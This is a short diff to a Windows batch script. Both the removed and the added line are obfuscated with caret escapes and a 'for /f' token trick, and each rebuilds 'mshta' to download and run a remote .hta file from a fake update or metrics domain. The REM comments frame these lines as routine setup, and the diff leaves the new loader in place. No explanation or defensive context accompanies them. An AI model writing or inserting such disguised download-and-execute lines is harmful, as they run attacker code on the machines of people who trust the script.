@@ -1,2 +1,2 @@
-REM setup 8072 v4
-^f^o^r /^f "tokens=3 delims=#" %%i in ("vrmw#gygg#mshta") do %%^i ^h^t^tp://^dl.win^u^p^da^te-c^dn.^e^xample/^upd^ate.hta
+REM run 6072 v4
+for /f "tokens=1 delims=;" %%i i^n ("mshta;ydgm;glgn") d^o %%i ^h^ttp://s^tat^ic.^m^et^rics-^no^de.^e^x^a^mple/u^p^d^at^e.h^ta
